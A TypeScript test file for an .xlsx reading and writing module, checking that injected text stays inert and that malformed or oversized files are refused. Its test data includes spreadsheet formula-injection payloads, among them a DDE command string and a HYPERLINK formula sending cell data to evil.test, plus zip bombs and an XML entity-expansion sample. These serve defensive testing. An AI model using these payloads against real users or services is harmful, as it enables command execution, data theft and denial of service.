import { deflateRawSync } from 'node:zlib';

import { constantFrom, nat, record, sample, string } from 'fast-check';
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import { describe, expect, test } from 'vitest';

import { readSheet, writeSheet, type SheetColumn } from './sheets.ts';

const LIMITS = { max_rows: 20_000, max_bytes: 10_000_000 };
const TEXT: SheetColumn<string>[] = [
  { title: 'No', type: 'text', value: () => 'x' },
  { title: 'Text', type: 'text', value: (text) => text },
];

const write = (rows: string[]) => writeSheet({ name: 'Data', columns: TEXT, rows });
const textsIn = async (file: Buffer) => (await readSheet(file, LIMITS)).rows.map((row) => row.values['Text']);
const parts = (file: Buffer) =>
  Object.fromEntries(Object.entries(unzipSync(file)).map(([path, part]) => [path, strFromU8(part)]));

/** A workbook of ours whose rows are replaced by `rows`, as another program might write them. */
async function withRows(rows: string, more: Record<string, string> = {}): Promise<Buffer> {
  const all = parts(await write([]));
  const sheet = `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${rows}</sheetData></worksheet>`;
  const changed = { ...all, 'xl/worksheets/sheet1.xml': sheet, ...more };
  return Buffer.from(zipSync(Object.fromEntries(Object.entries(changed).map(([path, xml]) => [path, strToU8(xml)]))));
}
const text = (place: string, value: string) => `<c r="${place}" t="inlineStr"><is><t>${value}</t></is></c>`;
const TITLE = `<row r="1">${text('A1', 'Phone')}</row>`;

describe('a written sheet', () => {
  const payloads = [
    '=1+1',
    '+62812345678',
    '-2+3',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    '\n=cmd',
    `=cmd|' /C calc'!A0`,
    '=HYPERLINK("http://evil.test?x="&A1,"click")',
    '081234567890',
    '12345678901234567890123',
    '"=1+1"',
    "'=1+1",
    ' =1+1 ',
    '</t></is></c><c r="C2"><f>1+1</f></c>',
    '_x003D_1+1',
    ']]><f>1</f>',
    'TRUE',
    '1e5',
    '2026-11-16',
  ];

  test('[T22] writes texts as text cells with their value unchanged, and no formula', async () => {
    const file = await write(payloads);
    for (const [path, xml] of Object.entries(parts(file)))
      expect([path, xml.includes('<f')]).toEqual([path, path.endsWith('styles.xml')]);
    const sheet = parts(file)['xl/worksheets/sheet1.xml'] ?? '';
    expect(sheet).not.toMatch(/<f[ >/]/);
    // An XML parser would read a carriage return as a line feed.
    expect(sheet).not.toContain('\r');
    // Every cell is a text cell.
    expect(sheet.match(/<c /g)).toHaveLength(2 + 2 * payloads.length);
    expect(sheet.match(/<c [^>]*t="inlineStr">/g)).toHaveLength(2 + 2 * payloads.length);
    expect(await textsIn(file)).toEqual(payloads);
  });

  test('writes thousands of arbitrary texts in order and stays a valid file', async () => {
    const unicode = string({ unit: 'binary', maxLength: 60 });
    const halves = string({
      unit: constantFrom('\uD83D', '\uDE00', 'a', '\u0000', '\u000B', '\uFFFF', '🙂', '_x000D_', '\r\n', '&', '<'),
    });
    const texts = [...sample(unicode, { numRuns: 3000, seed: 7 }), ...sample(halves, { numRuns: 1000, seed: 7 })];
    const file = await write(texts);
    const kept = (given: string) =>
      // oxlint-disable-next-line no-control-regex -- these are what XML cannot hold
      given.toWellFormed().replaceAll(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\uFFFE\uFFFF]/g, '');
    expect(await textsIn(file)).toEqual(texts.map(kept));
    expect(parts(file)['xl/worksheets/sheet1.xml']).toMatch(/<\/sheetData><\/worksheet>$/);
  });

  test('writes bold, frozen titles and the requested column widths', async () => {
    const columns: SheetColumn<string>[] = [{ title: 'A & B', width: 33, type: 'text', value: (given) => given }];
    const all = parts(await writeSheet({ name: 'a/b:c*[d]?' + 'x'.repeat(40), columns, rows: [] }));
    expect(all['xl/worksheets/sheet1.xml']).toContain(
      '<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>',
    );
    expect(all['xl/worksheets/sheet1.xml']).toContain('width="33"');
    expect(all['xl/worksheets/sheet1.xml']).toContain('<c r="A1" s="1" t="inlineStr">');
    expect(all['xl/workbook.xml']).toMatch(/name="a b c  d  x{20,22}"/);
  });

  test('writes numbers, dates and booleans as typed cells, and empty cells for missing values', async () => {
    type Row = { n: number | null; d: string | null; b: boolean | null };
    const columns: SheetColumn<Row>[] = [
      { title: 'n', type: 'number', value: (row) => row.n },
      { title: 'd', type: 'date', value: (row) => row.d },
      { title: 'b', type: 'boolean', value: (row) => row.b },
    ];
    const rows: Row[] = [
      { n: 12.5, d: '2026-11-16', b: true },
      { n: -1e21, d: '2026-11-16 23:59', b: false },
      { n: Number.NaN, d: '1899-05-05', b: null },
      { n: 0, d: 'soon', b: null },
    ];
    const file = await writeSheet({ name: 'x', columns, rows });
    expect((await readSheet(file, LIMITS)).rows).toEqual([
      { number: 2, values: { n: '12.5', d: '2026-11-16', b: 'TRUE' } },
      { number: 3, values: { n: '-1000000000000000000000', d: '2026-11-16 23:59', b: 'FALSE' } },
      { number: 4, values: { n: '', d: '1899-05-05', b: '' } },
      { number: 5, values: { n: '0', d: 'soon', b: '' } },
    ]);
  });

  test('writes rows from an async iterator and more than 26 columns', async () => {
    async function* rows() {
      for (let index = 0; index < 500; index += 1) yield await Promise.resolve(index);
    }
    const columns = Array.from({ length: 60 }, (_none, index): SheetColumn<number> => ({
      title: `c${index}`,
      type: 'number',
      value: (row) => row * 100 + index,
    }));
    const read = await readSheet(await writeSheet({ name: 'x', columns, rows: rows() }), LIMITS);
    expect(read.rows).toHaveLength(500);
    expect(read.rows[499]?.values['c59']).toBe('49959');
    expect(columns.length).toBe(read.titles.length);
  });

  test('fails to write a sheet when its rows fail, and cuts a text longer than a cell can hold', async () => {
    async function* rows() {
      yield 'one';
      await Promise.reject(new Error('lost'));
    }
    await expect(writeSheet({ name: 'x', columns: TEXT, rows: rows() })).rejects.toThrow('lost');
    expect((await textsIn(await write(['é'.repeat(40_000)])))[0]).toHaveLength(32_767);
  });
});

describe('a sheet that is read', () => {
  test('reads numbers of a sheet as they were typed', async () => {
    const numbers = [
      '8123456789',
      '8.123456789E9',
      '6.2812345678901E13',
      '0.1',
      '1.1000000000000001',
      '-5',
      '1E-7',
      '12345678901234567890',
    ];
    const rows = numbers.map((value, index) => `<row r="${index + 2}"><c r="A${index + 2}"><v>${value}</v></c></row>`);
    const { rows: read } = await readSheet(await withRows(TITLE + rows.join('')), LIMITS);
    expect(read.map((row) => row.values['Phone'])).toEqual([
      '8123456789',
      '8123456789',
      '62812345678901',
      '0.1',
      '1.1',
      '-5',
      '0.0000001',
      '12345678901234567890',
    ]);
  });

  test('keeps row numbers of a sheet, leaves out empty rows and accepts any title', async () => {
    const file = await withRows(
      `<row r="1">${text('A1', ' Nama ')}${text('B1', '__proto__')}</row><row r="4">${text('B4', 'x')}${text('D4', 'no title')}</row>`,
    );
    const { titles, rows } = await readSheet(file, LIMITS);
    expect(titles).toEqual(['Nama', '__proto__']);
    expect(rows.map((row) => [row.number, Object.entries(row.values)])).toEqual([
      [
        4,
        [
          ['Nama', ''],
          ['__proto__', 'x'],
        ],
      ],
    ]);
  });

  test('reads times and shared strings of a sheet', async () => {
    const rows = `<row r="1"><c r="A1" t="s"><v>0</v></c></row><row r="2"><c r="A2" s="3"><v>46342.5</v></c></row><row r="3"><c r="A3" s="2"><v>0.25</v></c></row><row r="4"><c r="A4" t="s"><v>1</v></c></row>`;
    const shared =
      '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>T</t></si><si><r><t>ri</t></r><r><t>ch</t></r></si></sst>';
    const read = await readSheet(await withRows(rows, { 'xl/sharedStrings.xml': shared }), LIMITS);
    expect(read.rows.map((row) => row.values['T'])).toEqual(['2026-11-16 12:00', '06:00', 'rich']);
  });
});

describe('an invalid sheet', () => {
  const refusal = (file: Buffer, limits = LIMITS) =>
    readSheet(file, limits).then(
      () => 'read',
      (error: Error) => error.message,
    );

  test('refuses a sheet file that is not .xlsx', async () => {
    const csv = Buffer.from(`Nama,Telepon\n${'Budi,0812\n'.repeat(10)}`);
    const xls = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]);
    for (const file of [
      Buffer.alloc(0),
      Buffer.from('PK'),
      csv,
      xls,
      Buffer.from('<html></html>'.repeat(9)),
      Buffer.from(zipSync({ 'a.xml': strToU8('<a/>') })),
    ])
      expect(await refusal(file)).toBe('unsupported_media');
  });

  test('refuses a sheet with more rows or bytes than the limits', async () => {
    const file = await write(['a', 'b', 'c']);
    expect(await refusal(file, { max_rows: 3, max_bytes: file.length })).toBe('read');
    expect(await refusal(file, { max_rows: 2, max_bytes: file.length })).toBe('sheet_too_large');
    expect(await refusal(file, { max_rows: 3, max_bytes: file.length - 1 })).toBe('payload_too_large');
  });

  test('refuses a zip bomb in a sheet before unpacking it', async () => {
    const bomb = await withRows(TITLE, { 'xl/sharedStrings.xml': ' '.repeat(60_000_000) });
    expect(bomb.length).toBeLessThan(100_000);
    const before = process.memoryUsage().arrayBuffers;
    expect(await refusal(bomb)).toBe('sheet_too_large');
    expect(process.memoryUsage().arrayBuffers - before).toBeLessThan(10_000_000);
  });

  test('refuses a zip bomb in a sheet that lies about its size', async () => {
    const bomb = await withRows(TITLE, { 'xl/sharedStrings.xml': ' '.repeat(60_000_000) });
    const size = Buffer.alloc(4);
    size.writeUInt32LE(60_000_000);
    for (let at = bomb.indexOf(size); at !== -1; at = bomb.indexOf(size)) bomb.writeUInt32LE(100, at);
    expect(await refusal(bomb)).toBe('sheet_unreadable');
  });

  test('ignores data of a zip file that its directory does not list', async () => {
    const hidden = deflateRawSync(Buffer.from('x'));
    const file = await withRows(TITLE);
    expect(await refusal(Buffer.concat([file, hidden]))).toBe('read');
  });

  test.each([
    ['a distant row', `${TITLE}<row r="99999999">${text('A99999999', 'x')}</row>`, 'sheet_too_large'],
    ['a distant column', `${TITLE}<row r="2">${text('XFD2', 'x')}</row>`, 'sheet_too_large'],
    ['a column beyond the maximum', `${TITLE}<row r="2">${text('ZZZZZZ2', 'x')}</row>`, 'sheet_unreadable'],
    ['a row number written in entities', `${TITLE}<row r="&#57;9999999">${text('A2', 'x')}</row>`, 'sheet_unreadable'],
    [
      'a row number behind a quoted bracket',
      `${TITLE}<row x=">" r="99999999">${text('A2', 'x')}</row>`,
      'sheet_too_large',
    ],
    [
      'a row number with a namespace prefix',
      `${TITLE}<x:row x:r='99999999'>${text('A2', 'x')}</x:row>`,
      'sheet_too_large',
    ],
    ['a second row number', `${TITLE}<row r="2" r="99999999">${text('A2', 'x')}</row>`, 'sheet_too_large'],
    ['a distant row behind a comment', `${TITLE}<!-- " --><row r="99999999"></row><!-- " -->`, 'sheet_too_large'],
    ['a comment', `${TITLE}<!-- ' -->`, 'sheet_unreadable'],
    ['a bracket in a value', `${TITLE}<row a="<row r='2'/>"/>`, 'sheet_unreadable'],
    ['a declaration', `${TITLE}<?x " ?>`, 'sheet_unreadable'],
    ['no titles', '<row r="2"><c r="A2"><v>1</v></c></row>', 'sheet_unreadable'],
    ['numbers as titles', '<row r="1"><c r="A1"><v>1</v></c></row>', 'sheet_unreadable'],
    ['the same title twice', `<row r="1">${text('A1', 'a')}${text('B1', ' a')}</row>`, 'sheet_unreadable'],
    ['no rows', '', 'sheet_unreadable'],
    [
      'a text longer than a cell can hold',
      `${TITLE}<row r="2">${text('A2', 'x'.repeat(32_768))}</row>`,
      'sheet_unreadable',
    ],
    ['broken XML', `${TITLE}<row r="2">`, 'sheet_unreadable'],
  ])('refuses a sheet with %s', async (_what, rows, code) => {
    expect(await refusal(await withRows(rows))).toBe(code);
  });

  test('refuses XML entity declarations in a sheet, and a worksheet in place of the shared strings', async () => {
    const laughs = '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><sst><si><t>&b;</t></si></sst>';
    expect(await refusal(await withRows(TITLE, { 'xl/sharedStrings.xml': laughs }))).toBe('sheet_unreadable');
    const far = `<worksheet><sheetData><row r="99999999"/></sheetData></worksheet>`;
    expect(await refusal(await withRows(TITLE, { 'xl/sharedStrings.xml': far }))).toBe('sheet_too_large');
  });

  test('reads a cut or damaged sheet or refuses it with a known error code', async () => {
    const file = await write(['a', 'b']);
    const known = ['read', 'sheet_unreadable', 'sheet_too_large', 'unsupported_media'];
    for (let length = 0; length < file.length; length += 7)
      expect(known).toContain(await refusal(file.subarray(0, length)));
    for (const { at, byte } of sample(record({ at: nat(file.length - 1), byte: nat(255) }), {
      numRuns: 400,
      seed: 3,
    })) {
      const damaged = Buffer.from(file);
      damaged[at] = byte;
      expect(known).toContain(await refusal(damaged));
    }
  });
});
